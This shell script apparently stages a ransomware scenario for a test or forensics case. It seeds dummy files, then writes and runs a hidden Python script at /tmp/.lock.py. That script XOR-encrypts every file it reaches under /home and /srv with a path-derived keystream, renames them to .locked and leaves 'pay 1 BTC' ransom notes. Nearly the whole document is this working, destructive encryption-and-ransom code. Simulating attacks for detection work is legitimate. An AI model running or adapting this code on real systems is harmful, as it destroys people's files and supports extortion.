#!/bin/sh
. /opt/case/case.sh

mkdir -p /home/anna/docs /srv/share && for n in $(seq 1 60); do head -c 6000 /dev/urandom | base64 >/home/anna/docs/r$n.odt; seq 1 900 >/srv/share/t$n.csv; done
cat >/tmp/.lock.py <<'END'
import hashlib, os
skip_dirs = {"proc", "sys", "dev", "boot", "usr", "lib", "bin", "run"}; skip_ends = (".so", ".ko", ".exe", ".locked", "README_NOW"); n = 0
for top in ("/home", "/srv"):
    for d, dirs, fs in os.walk(top):
        dirs[:] = [x for x in dirs if x not in skip_dirs]
        for f in fs:
            p = os.path.join(d, f)
            if p.endswith(skip_ends) or p.startswith("/srv/app"): continue
            b = bytearray(open(p, "rb").read()); k = hashlib.shake_256(p.encode() + b"ninth").digest(len(b))
            with open(p, "r+b") as o: o.write(bytes(x ^ y for x, y in zip(b, k)))
            os.rename(p, p + ".locked"); n += 1
        if fs: open(os.path.join(d, "README_NOW"), "w").write("pay 1 BTC")
assert n > 120
END
python3 /tmp/.lock.py
took_place
